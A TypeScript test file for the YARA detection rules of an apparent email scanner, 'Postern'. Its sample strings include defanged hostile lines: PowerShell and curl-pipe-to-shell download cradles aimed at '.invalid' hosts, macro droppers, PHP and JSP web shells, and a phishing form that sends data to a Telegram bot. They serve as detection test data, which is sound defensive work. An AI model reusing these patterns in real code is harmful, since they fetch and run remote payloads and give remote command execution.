import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { RuleFile } from './engines/rule-files.ts';
import { loadYara } from './engines/yara-x.ts';
import { anomalyName } from './heuristics/mime-rules.ts';
import { anomalies } from './mime/anomalies.ts';

const directory = new URL('./rules/', import.meta.url);
const files: readonly RuleFile[] = readdirSync(directory)
  .filter((name) => name.endsWith('.yar'))
  .map((name) => ({
    name,
    kind: 'rules',
    isOurs: true,
    source: readFileSync(new URL(name, directory), 'utf8'),
  }));

/** What each rule of ours is made for, harmless: nothing here leads anywhere. */
const samples: Readonly<Record<string, string>> = {
  'Postern.Dropper.WindowsScript': [
    'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://a.invalid/", false);',
    'var s = new ActiveXObject("ADODB.Stream"); s.SaveToFile("a");',
    'new ActiveXObject("WScript.Shell").Run("a");',
  ].join('\n'),
  'Postern.Dropper.PowerShell':
    '@echo off\r\npowershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://a.invalid/\')"\r\n',
  'Postern.Dropper.SystemTools': '@echo off\r\ncertutil -urlcache -f http://a.invalid/a a\r\n',
  'Postern.Dropper.Shortcut': `L\0\0\0\x01\x14\x02\0${Buffer.from('powershell -enc AAAA', 'utf16le').toString('latin1')}`,
  'Postern.Dropper.Hta':
    '<html><hta:application/><script>new ActiveXObject("WScript.Shell").Run("cmd.exe")</script></html>',
  'Postern.Dropper.SettingContent':
    '<?xml version="1.0"?><a><DeepLink>C:\\Windows\\cmd.exe /c a</DeepLink></a>',
  'Postern.Dropper.DesktopEntry':
    '[Desktop Entry]\nType=Application\nExec=sh -c "curl http://a.invalid/ | sh"\n',
  'Postern.Script.Encoded': '#@~^AAAAAA==abc^#~@',
  'Postern.Attachment.RemoteDesktop':
    'full address:s:a.invalid\r\ndrivestoredirect:s:*\r\nremoteapplicationmode:i:1\r\n',
  'Postern.Macro.Dropper':
    'Attribute VB_Name = "A"\r\nSub AutoOpen()\r\nURLDownloadToFile 0, "a", "b", 0, 0\r\nCreateObject("WScript.Shell").Run "b"\r\nEnd Sub\r\n',
  'Postern.Macro.Shellcode':
    'Attribute VB_Name = "A"\r\nDeclare Function VirtualAlloc\r\nDeclare Sub RtlMoveMemory\r\nDeclare Function CreateThread\r\n',
  'Postern.Exploit.EquationEditor':
    '{\\rtf1{\\object{\\objdata 02ce020000000000c000000000000046 030101030a0a01085a5a}}}',
  'Postern.Exploit.SupportTool':
    '<html><script>location.href = "ms-msdt:/id PCWDiagnostic IT_BrowseForFile=$(a)"</script></html>',
  'Postern.Excel.SymbolicLink': 'ID;P\r\nO;E\r\nC;X1;Y1;EEXEC("a")\r\n',
  'Postern.Excel.WebQuery': 'WEB\r\n1\r\nhttp://a.invalid/\r\n',
  'Postern.Html.EncodedProgram':
    '<html><script>URL.createObjectURL(new Blob([atob("TVqQAAMAAAAEAAAA")]))</script></html>',
  'Postern.Phishing.FormToMessenger':
    '<html><input type="password"><script>fetch("https://api.telegram.org/bot1:a/sendMessage")</script></html>',
  'Postern.Phishing.WrittenPage': `<html><head><script>document.write(unescape("${'%3C'.repeat(1000)}"))</script></head></html>`,
  'Postern.WebShell.Php': "<?php eval(base64_decode($_POST['a'])); ?>",
  'Postern.WebShell.Jsp': '<% Runtime.getRuntime().exec(request.getParameter("a")); %>',
  'Postern.Unwanted.RemoteControl': `MZ\x90\0${Buffer.from('AnyDesk Software GmbH', 'utf16le').toString('latin1')}`,
};

/** The names of the rules in our files. */
const ruleNames = files.flatMap(({ source }) =>
  [...source.matchAll(/^ {4}name = "(.*)"$/gm)].map((match) => match[1] ?? ''),
);
/** Those that stand for test strings, with tests of their own. */
const isTest = (name: string) => /^Postern\.(?:Test|Simulation)\./.test(name);

const yara = loadYara();
describe.skipIf(yara === undefined)('the rules that ship with Postern', () => {
  const engine = yara?.engine(yara.compile(files), files);
  const found = (text: string) => {
    const findings = engine?.scan(Buffer.from(text, 'latin1'));
    return Array.isArray(findings) ? findings.map(({ name }) => name) : findings;
  };

  it('each say what they find, how bad it is, and where that is described', () => {
    for (const { source } of files)
      for (const rule of source
        .split(/^(?=(?:private )?rule )/m)
        .filter((text) => text.startsWith('rule '))) {
        expect(rule).toMatch(/^ {4}name = "Postern\.[A-Z]\w+\.[A-Z]\w+"$/m);
        expect(rule).toMatch(/^ {4}category = "(?:malware|test|spam-test|simulation|suspicious|note)"$/m);
        if (isTest(/name = "(.*)"/.exec(rule)?.[1] ?? '')) continue;
        expect(rule).toMatch(/^ {4}description = ".+"$/m);
        expect(rule).toMatch(/^ {4}reference = "https:\/\/.+"$/m);
        // What harms is in no group: it always counts.
        expect(rule.includes('group =')).toBe(!rule.includes('category = "malware"'));
      }
  });

  it('have a sample each', () => {
    expect(Object.keys(samples).sort()).toEqual(ruleNames.filter((name) => !isTest(name)).sort());
  });

  it.each(Object.entries(samples))('%s finds what it is made for', (name, sample) => {
    expect(found(sample)).toContain(name);
  });

  it.each(Object.entries(samples).filter(([name]) => name !== 'Postern.Phishing.FormToMessenger'))(
    '%s does not find it quoted in a text',
    (_, sample) => {
      // Encoded scripts are looked for near the beginning, behind a comment.
      const text = `We found this in a mailbox:\n${'and wonder what it does. '.repeat(50)}\n\n${sample}`;
      expect(found(text)).toEqual([]);
      expect(found(`From: a@example.test\r\nSubject: a\r\n\r\n${text}`)).toEqual([]);
    },
  );

  it('find nothing in what administrators mail', () => {
    const honest = [
      // The way in which a well-known package manager is installed.
      '@"%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -ExecutionPolicy Bypass -Command "iex ((New-Object System.Net.WebClient).DownloadString(\'https://a.invalid/install.ps1\'))"\r\n',
      'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "notepad.exe", 1, True\r\n',
      '$a = Invoke-WebRequest https://a.invalid/\r\n',
      'Attribute VB_Name = "A"\r\nSub Workbook_Open()\r\nWorksheets(1).Range("A1") = Now\r\nEnd Sub\r\n',
      '<html><form><input type="password"></form></html>',
      '<?php echo htmlspecialchars($_GET["a"]); ?>',
      '{\\rtf1 Equation.3 4571756174696f6e2e33}',
      '[Desktop Entry]\nType=Application\nExec=firefox %u\n',
    ];
    for (const text of honest) expect(found(text)).toEqual([]);
  });
});

const page = readFileSync(new URL('../../docs/detections.md', import.meta.url), 'utf8');
const heuristics = new URL('./heuristics/', import.meta.url);

describe('docs/detections.md', () => {
  const written = new Set([...page.matchAll(/`(Postern\.[A-Z]\w+\.[A-Z]\w+)`/g)].map((match) => match[1]));

  it('describes every rule, and none that there is not', () => {
    const inCode = readdirSync(heuristics)
      .filter((file) => file.endsWith('.ts') && !/\.(?:test|fixture)\.ts$/.test(file))
      .flatMap(
        (file) =>
          readFileSync(new URL(file, heuristics), 'utf8').match(/(?<=')Postern\.[A-Z]\w+\.[A-Z]\w+(?=')/g) ??
          [],
      );
    const names = new Set([...inCode, ...anomalies.map(anomalyName), ...ruleNames]);
    expect([...written].sort()).toEqual([...names].sort());
  });
});
